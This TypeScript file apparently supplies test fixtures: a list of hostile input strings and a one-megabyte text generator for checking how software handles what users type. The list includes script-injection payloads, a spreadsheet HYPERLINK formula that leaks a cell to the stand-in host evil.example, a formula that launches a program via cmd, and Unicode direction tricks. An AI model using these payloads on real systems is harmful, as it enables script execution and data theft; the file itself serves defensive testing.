/** Text that a careless page, spreadsheet or terminal would act on. Vendors pass on whatever people type. */
export const HOSTILE_TEXTS = [
  '<img src=x onerror="document.title=1">',
  '<script>alert("opted out")</script>',
  '</td></tr><b>bold</b>&amp;&#39;',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  'first line\nsecond line\r\nthird line',
  '\u202Egnp.elif \u202Dreversed\u202C',
  "quotes \" and 'single', commas, semicolons; bars | and a tail\\",
  'null \u0000 bell \u0007 escape \u001b[31mred',
  'half a pair \ud83d and \udc4d the wrong way round',
  `a very long note ${'that goes on '.repeat(300)}and ends`,
  'Ünïcödé 電話 👩‍👩‍👧 مرحبا',
  '   spaces on both sides   ',
] as const;

/** A text of a megabyte, for the fault that sends one. */
export function megabyteOfText(): string {
  return 'x'.repeat(1024 * 1024);
}
